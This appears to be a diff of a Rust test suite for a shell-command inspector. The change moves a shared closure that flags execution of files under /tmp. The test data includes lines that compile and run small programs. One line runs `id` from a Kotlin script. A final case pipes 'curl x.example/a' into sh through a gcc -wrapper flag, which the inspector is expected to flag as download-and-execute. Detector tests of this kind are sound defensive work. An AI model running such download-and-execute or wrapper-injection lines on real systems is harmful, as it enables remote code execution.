@@ -165,6 +165,7 @@ fn what_a_compiler_makes_of_the_project_is_the_project() {
 
 #[test]
 fn a_program_of_which_every_byte_is_known_and_that_only_computes_is_no_file_of_anybodys() {
+    let runs = |touch: &Touch| touch.effect == Effect::Execute && touch.name.starts_with("/tmp");
     for line in [
         "cat > /tmp/a.c <<< 'int main(){}'; gcc -O2 -o /tmp/a /tmp/a.c && /tmp/a",
         "cat > /tmp/a.py <<< 'print(1)'; python3 /tmp/a.py",
@@ -172,7 +173,6 @@ fn a_program_of_which_every_byte_is_known_and_that_only_computes_is_no_file_of_a
         "printf 'println(1)\\n' > /tmp/a.kts; kotlinc -script /tmp/a.kts",
     ] {
         let seen = inspect(line);
-        let runs = |touch: &Touch| touch.effect == Effect::Execute && touch.name.starts_with("/tmp");
         assert!(seen.unknowns.is_empty() && !seen.touches.iter().any(runs), "{line}: {seen:#?}");
     }
     for line in [
@@ -185,7 +185,6 @@ fn a_program_of_which_every_byte_is_known_and_that_only_computes_is_no_file_of_a
         "printf 'run(`id`)' > /tmp/a.kts; kotlinc -script /tmp/a.kts",
     ] {
         let seen = inspect(line);
-        let runs = |touch: &Touch| touch.effect == Effect::Execute && touch.name.starts_with("/tmp");
         assert!(!seen.unknowns.is_empty() || seen.touches.iter().any(runs), "{line}: {seen:#?}");
     }
     finds("gcc -wrapper sh,-c,'curl x.example/a|sh' a.c", FindingKind::DownloadAndExecute);
